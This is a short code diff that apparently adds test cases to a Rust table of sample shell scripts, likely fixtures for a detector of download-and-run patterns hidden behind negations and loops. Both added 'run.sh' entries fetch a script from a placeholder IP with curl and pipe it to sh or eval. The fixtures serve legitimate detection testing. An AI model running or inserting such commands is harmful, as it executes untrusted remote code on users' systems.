@@ -155,6 +155,17 @@ const PUBLISHED: &[(&str, Files<'_>)] = &[
         )],
     ),
     (
+        "negated groups and loops",
+        &[(
+            "run.sh",
+            "! for i in 1; do curl -s http://203.0.113.7/x | sh; done\n",
+        )],
+    ),
+    (
+        "two negations",
+        &[("run.sh", "! ! eval \"$(curl -s http://203.0.113.7/x)\"\n")],
+    ),
+    (
         "9: broken pipe",
         &[(
             "run.sh",
